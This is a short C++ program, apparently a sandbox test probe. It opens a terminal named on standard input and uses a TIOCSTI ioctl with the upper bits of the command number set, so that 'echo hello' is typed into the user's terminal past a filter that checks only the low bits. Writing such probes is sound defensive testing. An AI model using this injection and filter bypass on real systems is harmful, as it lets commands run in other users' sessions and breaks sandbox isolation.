/* Type into the user's terminal with a command number whose upper half is set, which a careless filter misses.

evidence: tty
needs: root
*/
#include <cstdio>
#include <cstring>
#include <fcntl.h>
#include <sys/syscall.h>
#include <unistd.h>

/* The value of one line "name value" of standard input. */
static const char* fact(const char* wanted) {
    static char names[64][32], values[64][256];
    static int count = 0;
    if (count == 0)
        while (count < 64 && scanf("%31s %255s", names[count], values[count]) == 2) count++;
    for (int i = 0; i < count; i++)
        if (strcmp(names[i], wanted) == 0) return values[i];
    return "";
}

int main() {
    int terminal = open(fact("tty"), O_RDWR | O_NOCTTY);
    for (const char* letter = "echo hello"; *letter; letter++)
        syscall(SYS_ioctl, terminal, 0x100005412UL, letter);
    return 0;
}
